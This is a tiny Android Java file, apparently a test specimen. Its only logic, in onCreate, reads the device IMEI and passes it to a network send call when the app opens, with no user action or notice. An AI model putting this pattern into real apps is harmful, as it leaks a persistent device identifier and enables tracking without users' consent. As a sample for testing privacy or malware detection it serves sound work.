package com.example.specimen;

import android.app.Activity;
import android.os.Bundle;
import java.util.Arrays;
import java.util.stream.Collectors;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        Net.send(Arrays.asList(Imei.read(this), "x").stream().map(String::trim).collect(Collectors.joining(",")));
    }
}
